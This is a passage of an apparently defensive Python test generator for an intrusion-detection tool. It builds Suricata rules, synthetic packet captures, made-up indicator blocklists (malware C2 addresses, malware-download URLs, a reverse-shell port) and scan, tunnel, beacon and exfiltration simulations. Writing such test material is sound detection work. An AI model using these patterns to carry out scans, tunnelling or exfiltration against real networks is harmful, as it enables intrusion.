    m.opaque(1.0, CLI, "198.18.30.30", 8006)
    m.opaque(2.0, OUTSIDE, "198.18.30.30", 8001)
    m.opaque(3.0, CLI, "198.18.31.30", 8002)
    return [hit, neg]


SIG_RULES["app.rules"] = r"""# Classification conditions: app-layer-protocol, ndpi-protocol, ndpi-risk
alert ip any any -> 198.18.40.0/24 any (msg:"APP app-layer-protocol dns"; app-layer-protocol:dns; sid:100301;)
alert ip any any -> 198.18.41.0/24 any (msg:"APP app-layer-protocol negated"; app-layer-protocol:!tls; sid:100302;)
alert tcp any any -> 198.18.42.0/24 any (msg:"APP app-layer-protocol ssh"; app-layer-protocol:ssh; sid:100303;)
alert tcp any any -> 198.18.43.0/24 any (msg:"APP ndpi-protocol one part"; ndpi-protocol:YouTube; sid:100304;)
alert tcp any any -> 198.18.44.0/24 any (msg:"APP ndpi-protocol dotted"; ndpi-protocol:TLS.YouTube; sid:100305;)
alert udp any any -> 198.18.45.0/24 any (msg:"APP ndpi-protocol negated"; ndpi-protocol:!DNS; sid:100306;)
alert tcp any any -> 198.18.46.0/24 any (msg:"APP ndpi-risk single"; ndpi-risk:NDPI_TLS_SELFSIGNED_CERTIFICATE; sid:100307;)
alert tcp any any -> 198.18.47.0/24 any (msg:"APP ndpi-risk list (all of them)"; ndpi-risk:NDPI_TLS_OBSOLETE_VERSION,NDPI_TLS_WEAK_CIPHER; sid:100308;)
alert tcp any any -> 198.18.48.0/24 any (msg:"APP ndpi-risk negated"; app-layer-protocol:http; ndpi-risk:!NDPI_HTTP_NUMERIC_IP_HOST; sid:100309;)
alert tcp any any -> 198.18.49.0/24 any (msg:"APP ndpi-risk by nDPI's description"; ndpi-risk:"Desktop/File Sharing Session"; sid:100310;)
"""


def gen_sig_app():
    hit = Cap("sig_app.pcap", "sig", t0=5 * DAY,
              note="app-layer-protocol, ndpi-protocol (one part, dotted, "
                   "negated), ndpi-risk (one, all of a list, negated: "
                   "Suricata's NDPI_* codes; and nDPI's description)")
    neg = Cap("sig_app_neg.pcap", "sig", t0=6 * DAY,
              note="the other protocol or risk on the same servers")
    h, m = Net(hit, 301), Net(neg, 302)
    rng = random.Random(303)
    cert_self = certificate(rng, "selfsigned.example")
    cert_ca = certificate(rng, "casigned.example", issuer_cn="Vigil Test CA")
    cert_old = certificate(rng, "old.example", issuer_cn="Vigil Test CA")
    f = h.dns(1.0, CLI, "app-dns.example", server="198.18.40.53")
    hit.sig(f, 100301)
    m.ntp(1.0, CLI, "198.18.40.53")
    f = h.http(2.0, CLI, "198.18.41.41", "app-http.example")
    hit.sig(f, 100302)
    m.tls(2.0, CLI, "198.18.41.41", "app-tls.example")
    f = h.ssh(3.0, CLI, "198.18.42.42")
    hit.sig(f, 100303)
    m.telnet(3.0, CLI, "198.18.42.42")
    f = h.tls(4.0, CLI, "198.18.43.43", "www.youtube.com")
    hit.sig(f, 100304)
    m.tls(4.0, CLI, "198.18.43.43", "www.example.com")
    f = h.tls(5.0, CLI, "198.18.44.44", "www.youtube.com")
    hit.sig(f, 100305)
    m.http(5.0, CLI, "198.18.44.44", "www.youtube.com")   # HTTP.YouTube
    f = h.ntp(6.0, CLI, "198.18.45.45")
    hit.sig(f, 100306)
    m.dns(6.0, CLI, "app-neg.example", server="198.18.45.45")
    f = h.tls(7.0, CLI, "198.18.46.46", "selfsigned.example", tls13=False,
              cipher=0xC02F, certs=[cert_self])
    hit.sig(f, 100307)
    m.tls(7.0, CLI, "198.18.46.47", "casigned.example", tls13=False,
          cipher=0xC02F, certs=[cert_ca])
    # TLS 1.0 with AES-CBC: obsolete version and weak cipher (nDPI 4.2);
    # with RC4 nDPI 4.2 reports the obsolete version only
    f = h.tls(8.0, CLI, "198.18.47.47", "old.example", tls13=False,
              version=0x0301, cipher=0x002F,
              ciphers=[0x002F, 0x0035, 0x0005], certs=[cert_old])
    hit.sig(f, 100308)
    m.tls(8.0, CLI, "198.18.47.48", "old.example", tls13=False,
          version=0x0301, cipher=0x0005, ciphers=[0x002F, 0x0035, 0x0005],
          certs=[cert_old])
    f = h.http(9.0, CLI, "198.18.48.48", "app-risk.example")
    hit.sig(f, 100309)
    m.http(9.0, CLI, "198.18.48.48", "198.18.48.48")
    f = h.rdp(10.0, CLI, "198.18.49.49")
    hit.sig(f, 100310)
    m.ssh(10.0, CLI, "198.18.49.49")
    return [hit, neg]


SIG_RULES["buffers.rules"] = r"""# Sticky buffers with content and its modifiers, pcre, bsize, dotprefix
alert dns any any -> any any (msg:"BUF dns.query content"; dns.query; content:"evil-dns-token"; sid:100401;)
alert http any any -> any any (msg:"BUF http.user_agent content nocase"; http.user_agent; content:"VigilBot"; nocase; sid:100402;)
alert http any any -> any any (msg:"BUF http.user_agent content, case matters"; http.user_agent; content:"CaseBot"; sid:100403;)
alert tls any any -> any any (msg:"BUF tls.sni startswith"; tls.sni; content:"start-token."; startswith; sid:100404;)
alert http any any -> any any (msg:"BUF http.host endswith"; http.host; content:".end-token.example"; endswith; sid:100405;)
alert dns any any -> any any (msg:"BUF dns.query depth"; dns.query; content:"depth-tok"; depth:12; sid:100406;)
alert dns any any -> any any (msg:"BUF dns.query offset"; dns.query; content:"offset-tok"; offset:5; sid:100407;)
alert tls any any -> any any (msg:"BUF tls.sni negated content"; tls.sni; content:"neg-zone"; content:!"allowed"; sid:100408;)
alert http any any -> any any (msg:"BUF http.host pcre"; http.host; pcre:"/^pcre-[0-9]{4}\.example$/"; sid:100409;)
alert http any any -> any any (msg:"BUF http.user_agent pcre i"; http.user_agent; pcre:"/pcrebot\/[0-9]+/i"; sid:100410;)
alert tls any any -> any any (msg:"BUF ja3.hash"; ja3.hash; content:"%(ja3_hit)s"; sid:100411;)
alert tls any any -> any any (msg:"BUF ja3s.hash"; ja3s.hash; content:"%(ja3s_hit)s"; sid:100412;)
alert dns any any -> any any (msg:"BUF dns.query bsize"; dns.query; content:"bsize-tok"; bsize:<30; sid:100413;)
alert dns any any -> any any (msg:"BUF dns.query dotprefix"; dns.query; dotprefix; content:".dotprefix-tok.example"; endswith; sid:100414;)
alert http any any -> any any (msg:"BUF two buffers"; http.host; content:"combo-host"; http.user_agent; content:"ComboAgent"; sid:100415;)
alert http any any -> any any (msg:"BUF legacy http_host modifier"; content:"legacy-host"; http_host; sid:100416;)
""" % {"ja3_hit": ja3_of(JA3_HIT), "ja3s_hit": ja3s_of(JA3S_HIT)}


def gen_sig_buffers():
    hit = Cap("sig_buffers.pcap", "sig", t0=7 * DAY,
              note="dns.query, tls.sni, http.host, http.user_agent, "
                   "ja3.hash, ja3s.hash with content modifiers and pcre")
    neg = Cap("sig_buffers_neg.pcap", "sig", t0=8 * DAY,
              note="near misses of every buffer rule")
    h, m = Net(hit, 401), Net(neg, 402)
    web = "198.51.100.80"
    t = [0.0]

    def T():
        t[0] += 1.0
        return t[0]
    f = h.dns(T(), CLI, "a.evil-dns-token.example")
    hit.sig(f, 100401)
    m.dns(T(), CLI, "a.evil-dns-tokne.example")
    f = h.http(T(), CLI, web, "ua-nocase.example", ua="VIGILBOT/2.0 (+x)")
    hit.sig(f, 100402)
    m.http(T(), CLI, web, "ua-nocase.example", ua="VigilBo/2.0")
    f = h.http(T(), CLI, web, "ua-case.example", ua="CaseBot/1.0")
    hit.sig(f, 100403)
    m.http(T(), CLI, web, "ua-case.example", ua="casebot/1.0")
    f = h.tls(T(), CLI, "198.51.100.81", "start-token.example.com")
    hit.sig(f, 100404)
    m.tls(T(), CLI, "198.51.100.81", "www.start-token.example.com")
    f = h.http(T(), CLI, web, "www.end-token.example")
    hit.sig(f, 100405)
    m.http(T(), CLI, web, "www.end-token.example.org")
    f = h.dns(T(), CLI, "ab.depth-tok.example")
    hit.sig(f, 100406)
    m.dns(T(), CLI, "abcd.depth-tok.example")
    f = h.dns(T(), CLI, "abcde-offset-tok.example")
    hit.sig(f, 100407)
    m.dns(T(), CLI, "offset-tok.example")
    f = h.tls(T(), CLI, "198.51.100.82", "bad.neg-zone.example")
    hit.sig(f, 100408)
    m.tls(T(), CLI, "198.51.100.82", "allowed.neg-zone.example")
    m.tls(T(), CLI, "198.51.100.82", None)       # no SNI: no buffer
    f = h.http(T(), CLI, web, "pcre-2024.example")
    hit.sig(f, 100409)
    m.http(T(), CLI, web, "pcre-24.example")
    f = h.http(T(), CLI, web, "ua-pcre.example", ua="PCREBot/7")
    hit.sig(f, 100410)
    m.http(T(), CLI, web, "ua-pcre.example", ua="PCREBot/x")
    f = h.tls(T(), CLI, "198.51.100.83", "ja3.example", ciphers=JA3_HIT)
    assert f.ja3 == ja3_of(JA3_HIT)
    hit.sig(f, 100411)
    m.tls(T(), CLI, "198.51.100.83", "ja3.example", ciphers=JA3_MISS)
    f = h.tls(T(), CLI, "198.51.100.84", "ja3s.example", cipher=JA3S_HIT)
    assert f.ja3s == ja3s_of(JA3S_HIT)
    hit.sig(f, 100412)
    m.tls(T(), CLI, "198.51.100.84", "ja3s.example", cipher=JA3S_MISS)
    f = h.dns(T(), CLI, "bsize-tok.example")
    hit.sig(f, 100413)
    m.dns(T(), CLI, "very-long-label-for-bsize.bsize-tok.example")
    f = h.dns(T(), CLI, "www.dotprefix-tok.example")
    hit.sig(f, 100414)
    f = h.dns(T(), CLI, "dotprefix-tok.example")
    hit.sig(f, 100414)
    m.dns(T(), CLI, "notdotprefix-tok.example")
    f = h.http(T(), CLI, web, "combo-host.example", ua="ComboAgent/1")
    hit.sig(f, 100415)
    m.http(T(), CLI, web, "combo-host.example", ua="OtherAgent/1")
    f = h.http(T(), CLI, web, "legacy-host.example")
    hit.sig(f, 100416)
    m.http(T(), CLI, web, "legacy-hots.example")
    return [hit, neg]


SIG_RULES["threshold.rules"] = r"""# threshold (limit, threshold, both; by_src, by_dst) and detection_filter
alert dns any any -> any any (msg:"THR limit by_src"; dns.query; content:"thr-limit"; threshold:type limit, track by_src, count 2, seconds 60; sid:100501;)
alert dns any any -> any any (msg:"THR threshold by_dst"; dns.query; content:"thr-threshold"; threshold:type threshold, track by_dst, count 3, seconds 60; sid:100502;)
alert dns any any -> any any (msg:"THR both by_src"; dns.query; content:"thr-both"; threshold: type both, track by_src, count 3, seconds 60; sid:100503;)
alert dns any any -> any any (msg:"THR detection_filter by_src"; dns.query; content:"thr-dfilter"; detection_filter:track by_src, count 3, seconds 60; sid:100504;)
"""


def gen_sig_threshold():
    hit = Cap("sig_threshold.pcap", "sig", t0=9 * DAY,
              note="limit: 2 per src per 60 s (and again after the window); "
                   "threshold: every 3rd per dst; both: once at the 3rd; "
                   "detection_filter: from the 4th on")
    neg = Cap("sig_threshold_neg.pcap", "sig", t0=10 * DAY,
              note="too few matches, or matches spread wider than the window")
    h, m = Net(hit, 501), Net(neg, 502)
    a, b, c = "192.168.10.61", "192.168.10.62", "192.168.10.63"
    # limit by_src: a matches 3 times (2 alerts), b once (1), a again
    # after the window (1)
    for i, (tt, host) in enumerate([(1, a), (2, a), (3, a), (4, b), (75, a)]):
        f = h.dns(tt, host, "q%d.thr-limit.example" % i)
        if i != 2:
            hit.sig(f, 100501)
    # threshold by_dst (all to the resolver): 7 matches -> the 3rd and 6th
    for i in range(7):
        f = h.dns(10 + i, (a, b, c)[i % 3], "q%d.thr-threshold.example" % i)
        if i in (2, 5):
            hit.sig(f, 100502)
    # both by_src: 5 matches -> the 3rd
    for i in range(5):
        f = h.dns(20 + i, c, "q%d.thr-both.example" % i)
        if i == 2:
            hit.sig(f, 100503)
    # detection_filter by_src: 5 matches -> the 4th and 5th
    for i in range(5):
        f = h.dns(30 + i, b, "q%d.thr-dfilter.example" % i)
        if i >= 3:
            hit.sig(f, 100504)
    # negative: threshold needs 3 within 60 s (these are 40 s apart), both
    # gets 2, detection_filter 3 (alerts only beyond 3)
    for i in range(3):
        m.dns(1 + 40 * i, (a, b, c)[i], "q%d.thr-threshold.example" % i)
    for i in range(2):
        m.dns(2 + i, c, "q%d.thr-both.example" % i)
    for i in range(3):
        m.dns(5 + i, b, "q%d.thr-dfilter.example" % i)
    return [hit, neg]


# ---------------------------------------------------------------------------
# Indicator lists: rulesets/ioc/ioc/*, one file per published format

IOC_FILES = {}   # name -> text
IOC_RNG = random.Random(900)
CERTS = {k: certificate(IOC_RNG, cn, issuer_cn="Vigil Test CA")
         for k, cn in [("plain1", "plain-cert1.example"),
                       ("plain2", "plain-cert2.example"),
                       ("plainx", "plain-certx.example"),
                       ("sslbl", "sslbl-cert.example"),
                       ("sslblx", "sslbl-certx.example"),
                       ("misp", "misp-cert.example"),
                       ("mispx", "misp-certx.example")]}
C_SHA1 = {k: sha1hex(v) for k, v in CERTS.items()}

# JA3 variants of the indicator tests (client cipher rotations 3.. and
# server ciphers): each used by exactly one flow
V = {"plain_ja3": variant_ciphers(3), "plain_bare": variant_ciphers(4),
     "plain_neg": variant_ciphers(5), "sslbl": variant_ciphers(6),
     "sslbl_neg": variant_ciphers(7), "misp": variant_ciphers(8),
     "misp_neg": variant_ciphers(9)}
SV = {"plain_ja3s": 0x1302, "plain_neg": 0x1303}
TLS12_CIPHER = 0xC030


def gen_ioc():
    caps = []

    def pair(name, day, note_hit, note_neg):
        hit = Cap("ioc_%s.pcap" % name, "ioc", t0=day * DAY, note=note_hit)
        neg = Cap("ioc_%s_neg.pcap" % name, "ioc", t0=(day + 1) * DAY,
                  note=note_neg)
        caps.extend([hit, neg])
        return hit, neg, Net(hit, day), Net(neg, day + 100)

    # --- plain list -------------------------------------------------------
    lst = "plain.txt"
    IOC_FILES[lst] = "\n".join([
        "# vigil test indicators: one per line, ',description' optional,",
        "# the kind recognised per line",
        "198.51.100.66,plain ip",
        "203.0.113.128/25,plain cidr",
        "2001:db8:bad::/48,plain IPv6 network",
        "bad-plain.example,plain domain",
        "ja3:%s,plain ja3 only" % ja3_of(V["plain_ja3"]),
        "ja3s:%s,plain ja3s only" % ja3s_of(SV["plain_ja3s"]),
        "%s   # a bare MD5: JA3 or JA3S" % ja3_of(V["plain_bare"]),
        "ja3s:%s,a client hash listed as server hash" % ja3_of(V["plain_neg"]),
        "%s,plain cert sha1" % C_SHA1["plain1"],
        "%s,plain cert sha1 with colons" % colon_sha1(C_SHA1["plain2"]).upper(),
        "url:http://plain-url.example/gate.php,plain url",
        "https://plain-scheme.example:8443/x/y,plain url with scheme",
        ""])
    hit, neg, h, m = pair("plain", 20, "every kind of a plain list",
                          "neighbours of every plain indicator")
    f = h.http(1, CLI, "198.51.100.66", "ioc-ip.example")
    hit.ioc(f, "ip", "198.51.100.66", lst)
    m.http(1, CLI, "198.51.100.67", "ioc-ip.example")
    f = h.http(2, CLI, "203.0.113.200", "ioc-cidr.example")
    hit.ioc(f, "ip", "203.0.113.128/25", lst)
    m.http(2, CLI, "203.0.113.127", "ioc-cidr.example")
    f = h.http(3, CLI6, "2001:db8:bad::1", "ioc-v6.example")
    hit.ioc(f, "ip", "2001:db8:bad::/48", lst)
    m.http(3, CLI6, "2001:db8:bae::1", "ioc-v6.example")
    f = h.dns(4, CLI, "www.bad-plain.example")
    hit.ioc(f, "domain", "bad-plain.example", lst)
    m.dns(4, CLI, "bad-plain.example.org")
    m.dns(4.5, CLI, "notbad-plain.example")
    f = h.tls(5, CLI, "198.51.100.70", "bad-plain.example")
    hit.ioc(f, "domain", "bad-plain.example", lst)
    m.tls(5, CLI, "198.51.100.70", "plain.example")
    f = h.tls(6, CLI, "198.51.100.71", "ja3-a.example", ciphers=V["plain_ja3"])
    hit.ioc(f, "ja3", ja3_of(V["plain_ja3"]), lst)
    m.tls(6, CLI, "198.51.100.71", "ja3-a.example", ciphers=V["plain_neg"])
    f = h.tls(7, CLI, "198.51.100.72", "ja3s-a.example",
              cipher=SV["plain_ja3s"])
    hit.ioc(f, "ja3s", ja3s_of(SV["plain_ja3s"]), lst)
    m.tls(7, CLI, "198.51.100.72", "ja3s-a.example", cipher=SV["plain_neg"])
    f = h.tls(8, CLI, "198.51.100.73", "ja3-b.example",
              ciphers=V["plain_bare"])
    hit.ioc(f, "ja3", ja3_of(V["plain_bare"]), lst)
    f = h.tls(9, CLI, "198.51.100.74", "plain-cert1.example", tls13=False,
              cipher=TLS12_CIPHER, certs=[CERTS["plain1"]])
    hit.ioc(f, "cert_sha1", C_SHA1["plain1"], lst)
    f = h.tls(10, CLI, "198.51.100.74", "plain-cert2.example", tls13=False,
              cipher=TLS12_CIPHER, certs=[CERTS["plain2"]])
    hit.ioc(f, "cert_sha1", C_SHA1["plain2"], lst)
    m.tls(10, CLI, "198.51.100.74", "plain-certx.example", tls13=False,
          cipher=TLS12_CIPHER, certs=[CERTS["plainx"]])
    f = h.http(11, CLI, "198.51.100.75", "plain-url.example", path="/gate.php")
    hit.ioc(f, "domain", "plain-url.example", lst)
    m.http(11, CLI, "198.51.100.75", "plain-url.example.net")
    f = h.tls(12, CLI, "198.51.100.76", "cdn.plain-scheme.example", sport=8443)
    hit.ioc(f, "domain", "plain-scheme.example", lst)
    m.tls(12, CLI, "198.51.100.76", "plain-scheme.example.com", sport=8443)

    # --- abuse.ch Feodo Tracker ipblocklist.csv -----------------------------
    lst = "feodo_ipblocklist.csv"
    IOC_FILES[lst] = """################################################################
# abuse.ch Feodo Tracker Botnet C2 IP Blocklist (CSV)          #
# Last updated: 2024-01-01 00:05:01 UTC                        #
#                                                              #
# Terms Of Use: https://feodotracker.abuse.ch/blocklist/       #
# For questions please contact feodotracker [at] abuse.ch      #
################################################################
#
# "first_seen_utc","dst_ip","dst_port","c2_status","last_online","malware"
"2023-11-02 10:11:12","203.0.113.31","443","online","2023-12-31","Dridex"
"2023-12-12 08:00:01","198.51.100.31","8080","offline","2023-12-20","QakBot"
"2023-12-30 22:45:10","203.0.113.35","4443","online","2024-01-01","Pikabot"
# END 3 entries
"""
    hit, neg, h, m = pair("feodo", 30, "Feodo Tracker C2 addresses",
                          "the addresses next to them")
    f = h.tls(1, CLI, "203.0.113.31", "feodo-c2.example")
    hit.ioc(f, "ip", "203.0.113.31", lst)
    f = h.http(2, "192.168.10.42", "198.51.100.31", "feodo-c2b.example",
               sport=8080)
    hit.ioc(f, "ip", "198.51.100.31", lst)
    m.tls(1, CLI, "203.0.113.32", "feodo-c2.example")
    m.http(2, "192.168.10.42", "198.51.100.30", "feodo-c2b.example",
           sport=8080)

    # --- abuse.ch SSLBL ja3_fingerprints.csv --------------------------------
    lst = "sslbl_ja3_fingerprints.csv"
    IOC_FILES[lst] = """################################################################
# abuse.ch SSLBL JA3 Fingerprint Blacklist (CSV)               #
# Last updated: 2024-01-01 00:00:10 UTC                        #
#                                                              #
# Terms Of Use: https://sslbl.abuse.ch/blacklist/              #
# For questions please contact sslbl [ at ] abuse.ch           #
################################################################
#
# ja3_md5,Firstseen,Lastseen,Listingreason
%s,2023-10-14 18:08:15,2023-12-27 20:42:54,Tofsee
%s,2023-11-01 09:00:00,2023-12-31 23:59:59,Dridex
# END (2 entries)
""" % (ja3_of(V["sslbl"]), md5("vigil-unused-ja3"))
    hit, neg, h, m = pair("sslbl_ja3", 40, "a JA3 from SSLBL",
                          "other JA3s")
    f = h.tls(1, CLI, "198.51.100.90", "sslbl-ja3.example", ciphers=V["sslbl"])
    hit.ioc(f, "ja3", ja3_of(V["sslbl"]), lst)
    m.tls(1, CLI, "198.51.100.90", "sslbl-ja3.example",
          ciphers=V["sslbl_neg"])

    # --- abuse.ch SSLBL sslblacklist.csv ------------------------------------
    lst = "sslbl_sslblacklist.csv"
    IOC_FILES[lst] = """################################################################
# abuse.ch SSLBL SSL Certificate Blacklist (SHA1 Fingerprints) #
# Last updated: 2024-01-01 00:00:12 UTC                        #
#                                                              #
# Terms Of Use: https://sslbl.abuse.ch/blacklist/              #
# For questions please contact sslbl [ at ] abuse.ch           #
################################################################
#
# Listingdate,SHA1,Listingreason
2023-12-31 17:55:30,%s,AsyncRAT C&C
2023-12-30 08:12:01,%s,Quakbot C&C
""" % (C_SHA1["sslbl"], sha1hex(b"vigil-unused-cert"))
    hit, neg, h, m = pair("sslbl_cert", 50, "a certificate from SSLBL",
                          "another certificate")
    f = h.tls(1, CLI, "198.51.100.91", "sslbl-cert.example", tls13=False,
              cipher=TLS12_CIPHER, certs=[CERTS["sslbl"]])
    hit.ioc(f, "cert_sha1", C_SHA1["sslbl"], lst)
    m.tls(1, CLI, "198.51.100.91", "sslbl-certx.example", tls13=False,
          cipher=TLS12_CIPHER, certs=[CERTS["sslblx"]])

    # --- abuse.ch URLhaus csv ---------------------------------------------
    lst = "urlhaus.csv"
    IOC_FILES[lst] = """################################################################
# abuse.ch URLhaus Database Dump (CSV - recent URLs only)      #
# Last updated: 2024-01-01 00:08:12 (UTC)                      #
#                                                              #
# Terms Of Use: https://urlhaus.abuse.ch/api/                  #
# For questions please contact urlhaus [at] abuse.ch           #
################################################################
#
# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter
"2765432","2024-01-01 00:02:11","http://urlhaus-bad.example/bins/mips","online","2024-01-01 00:02:11","malware_download","elf,mirai","https://urlhaus.abuse.ch/url/2765432/","abuse_ch"
"2765431","2023-12-31 23:58:40","http://198.51.100.77:8080/i.sh","online","2023-12-31 23:58:40","malware_download","None","https://urlhaus.abuse.ch/url/2765431/","geenensp"
"2765430","2023-12-31 23:50:02","https://files.urlhaus-tls.example/doc.zip","offline","","malware_download","zip","https://urlhaus.abuse.ch/url/2765430/","anonymous"
"""
    hit, neg, h, m = pair("urlhaus", 60, "hosts of URLhaus URLs (name, "
                          "address, TLS)", "other hosts")
    f = h.http(1, CLI, "198.51.100.95", "urlhaus-bad.example",
               path="/bins/mips")
    hit.ioc(f, "domain", "urlhaus-bad.example", lst)
    f = h.http(2, CLI, "198.51.100.77", "198.51.100.77", sport=8080,
               path="/i.sh")
    hit.ioc(f, "ip", "198.51.100.77", lst)
    f = h.tls(3, CLI, "198.51.100.96", "files.urlhaus-tls.example")
    hit.ioc(f, "domain", "files.urlhaus-tls.example", lst)
    m.http(1, CLI, "198.51.100.95", "urlhaus-bad.example.net")
    m.http(2, CLI, "198.51.100.78", "198.51.100.78", sport=8080)
    m.tls(3, CLI, "198.51.100.96", "urlhaus-tls.example")

    # --- MISP CSV export ----------------------------------------------------
    lst = "misp_export.csv"
    rows = [("ip-dst", "203.0.113.44", "Network activity", "C2 server"),
            ("domain", "misp-bad.example", "Network activity",
             "phishing kit"),
            ("hostname", "host.misp-host.example", "Network activity",
             "payload host"),
            ("ja3-fingerprint-md5", ja3_of(V["misp"]), "Network activity",
             "loader TLS client"),
            ("x509-fingerprint-sha1", C_SHA1["misp"], "Network activity",
             "C2 certificate"),
            ("ip-dst|port", "203.0.113.45|4444", "Network activity",
             "reverse shell"),
            ("md5", "0123456789abcdef0123456789abcdef", "Payload delivery",
             "dropper (not a network indicator)"),
            ("email-src", "bad@misp-bad.example", "Payload delivery", "")]
    text = ("uuid,event_id,category,type,value,comment,to_ids,date,"
            "object_relation,attribute_tag,object_uuid,object_name,"
            "object_meta_category\n")
    for i, (typ, val, cat, com) in enumerate(rows):
        text += ('"5a3c%04x-1c2d-4e5f-8a9b-%012x","1701",' % (i, 0xc0ffee + i) +
                 '"%s","%s","%s","%s","1","1704067200","","tlp:white","","",""\n'
                 % (cat, typ, val, com))
    IOC_FILES[lst] = text
    hit, neg, h, m = pair("misp", 70, "every network indicator type of a "
                          "MISP export", "parents, neighbours, other "
                          "hashes; types that are not indicators")
    f = h.tls(1, CLI, "203.0.113.44", "misp-c2.example")
    hit.ioc(f, "ip", "203.0.113.44", lst)
    f = h.dns(2, CLI, "cdn.misp-bad.example")
    hit.ioc(f, "domain", "misp-bad.example", lst)
    f = h.tls(3, CLI, "198.51.100.97", "host.misp-host.example")
    hit.ioc(f, "domain", "host.misp-host.example", lst)
    f = h.tls(4, CLI, "198.51.100.98", "misp-ja3.example", ciphers=V["misp"])
    hit.ioc(f, "ja3", ja3_of(V["misp"]), lst)
    f = h.tls(5, CLI, "198.51.100.99", "misp-cert.example", tls13=False,
              cipher=TLS12_CIPHER, certs=[CERTS["misp"]])
    hit.ioc(f, "cert_sha1", C_SHA1["misp"], lst)
    f = h.opaque(6, CLI, "203.0.113.45", 4444)
    hit.ioc(f, "ip", "203.0.113.45", lst)
    m.tls(1, CLI, "203.0.113.46", "misp-c2.example")
    m.dns(2, CLI, "misp-bad.example.org")
    m.tls(3, CLI, "198.51.100.97", "misp-host.example")
    m.tls(4, CLI, "198.51.100.98", "misp-ja3.example", ciphers=V["misp_neg"])
    m.tls(5, CLI, "198.51.100.99", "misp-certx.example", tls13=False,
          cipher=TLS12_CIPHER, certs=[CERTS["mispx"]])
    m.opaque(6, CLI, "203.0.113.47", 4444)
    return caps


IOC_COUNTS = {"ip": 7, "cidr": 2, "domain": 7, "ja3": 5, "ja3s": 2,
              "cert_sha1": 5}


# ---------------------------------------------------------------------------
# Behavioural detectors: rulesets/behav/detectors.conf

DETECTORS_CONF = """# detectors.conf of the detector tests (tests/detect/behav_*.pcap):
# every detector on, thresholds the captures cross (or stay under)
[portscan]
enabled = yes
ports = 20
window = 60

[hostsweep]
enabled = yes
hosts = 25
window = 60

[dns_tunnel]
enabled = yes
queries = 20
window = 300

[beacon]
enabled = yes
min_connections = 10
max_jitter = 0.1
min_interval = 30
window = 3600

[exfil]
enabled = yes
bytes = 1000000
window = 3600

[bruteforce]
enabled = yes
sessions = 20
window = 300
"""

DET_SID = {"portscan": 1, "hostsweep": 2, "dns_tunnel": 3, "beacon": 4,
           "exfil": 5, "bruteforce": 6}


def det_alert(cap, det, src, dest, **kw):
    e = {"engine": "detector", "sid": DET_SID[det], "gid": 9200,
         "detector": det, "src_ip": src, "dest_ip": dest}
    e.update(kw)
    cap.expect.append(e)


def b32name(rng, n):
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    return "".join(rng.choice(alphabet) for _ in range(n))


def bulk(f, t, to_server, n, rng, size=1448, caplen=96, gap=0.002):
    """n full-sized segments, captured snapped to caplen bytes (the IP
    header keeps the real length): bytes on the wire without the file
    size. Acked every 8th segment."""
    from scapy.layers.inet import TCP
    d = 0 if to_server else 1
    for i in range(n):
        sp, dp = (f.cport, f.sport) if to_server else (f.sport, f.cport)
        tcp = TCP(sport=sp, dport=dp, seq=f.seq[d], ack=f.seq[1 - d],
                  flags="A", window=f.win[d]) / Raw(rb(rng, size))
        f.emit_ip(t, to_server, f.ip(to_server, tcp), caplen=caplen)
        f.seq[d] = (f.seq[d] + size) & 0xFFFFFFFF
        t += gap
        if i % 8 == 7:
            f.seg(t, not to_server, "A")
    return t


def gen_behav():
    caps = []

    def pair(name, day, note_hit, note_neg):
        hit = Cap("behav_%s.pcap" % name, "behav", t0=day * DAY, note=note_hit)
        neg = Cap("behav_%s_neg.pcap" % name, "behav", t0=(day + 1) * DAY,
                  note=note_neg)
        caps.extend([hit, neg])
        return hit, neg, Net(hit, day), Net(neg, day + 100)

    # portscan: SYNs to 30 ports, most reset, some unanswered
    hit, neg, h, m = pair("portscan", 80, "TCP SYN scan of 30 ports of one "
                          "host (20 = the threshold)", "12 ports only")
    for i in range(30):
        h.syn_only(1.0 + 0.2 * i, "192.168.10.66", "192.168.10.50", 1000 + i,
                   answer="rst" if i % 5 else None)
    det_alert(hit, "portscan", "192.168.10.66", "192.168.10.50",
              metadata={"ports": "20", "window": "60"})
    for i in range(12):
        m.syn_only(1.0 + 0.2 * i, "192.168.10.66", "192.168.10.50", 1000 + i,
                   answer="rst")

    # hostsweep: ICMP echo to 40 hosts, a few answer
    hit, neg, h, m = pair("hostsweep", 82, "ICMP echo to 40 hosts (25 = "
                          "the threshold)", "10 hosts only")
    for i in range(40):
        h.ping(1.0 + 0.1 * i, "192.168.10.67", "192.168.10.%d" % (100 + i),
               reply=(i % 10 == 0), ident=0x4000 + i)
    det_alert(hit, "hostsweep", "192.168.10.67", "",
              metadata={"hosts": "25", "window": "60"})
    for i in range(10):
        m.ping(1.0 + 0.1 * i, "192.168.10.67", "192.168.10.%d" % (100 + i),
               reply=False, ident=0x4000 + i)

    # dns_tunnel: long random labels under one domain, TXT and NULL
    hit, neg, h, m = pair("dns_tunnel", 84, "40 TXT/NULL queries with long "
                          "random labels under tunnel-vigil.example",
                          "ordinary lookups of 40 names, and 5 tunnel-like "
                          "queries (under the threshold)")
    rng = random.Random(84)
    for i in range(40):
        name = "%s.%s.t.tunnel-vigil.example" % (b32name(rng, 52),
                                                 b32name(rng, 20))
        h.dns(1.0 + 0.5 * i, "192.168.10.68", name,
              "NULL" if i % 4 == 3 else "TXT")
    det_alert(hit, "dns_tunnel", "192.168.10.68", "",
              metadata={"domain": "tunnel-vigil.example", "queries": "20"})
    for i in range(40):
        m.dns(1.0 + 0.5 * i, "192.168.10.68", "www.site%02d.example" % i,
              "AAAA" if i % 2 else "A")
    for i in range(5):
        m.dns(30.0 + i, "192.168.10.68", "%s.t.tunnel-vigil.example" %
              b32name(rng, 52), "TXT")

    # beacon: a TLS check-in every 60 s +- 1 s, 12 times
    hit, neg, h, m = pair("beacon", 86, "12 TLS connections 60 s +- 1 s "
                          "apart (10 = the threshold)",
                          "12 connections at irregular intervals")
    t = 1.0
    for i in range(12):
        h.tls(t, "192.168.10.69", "203.0.113.69", "cdn-check.example", app=1)
        t += 60.0 + (1.0 if i % 2 == 0 else -1.0)
    det_alert(hit, "beacon", "192.168.10.69", "203.0.113.69", dest_port=443,
              metadata={"connections": "10", "interval": "60"})
    t = 1.0
    for gap in (20, 95, 33, 140, 61, 12, 200, 45, 80, 30, 150, 5):
        m.tls(t, "192.168.10.69", "203.0.113.69", "cdn-check.example", app=1)
        t += gap

    # exfil: one inside host sends 1.2 MB to one outside host
    hit, neg, h, m = pair("exfil", 88, "1.2 MB from 192.168.10.70 to one "
                          "outside host (snapped packets; 1 MB = the "
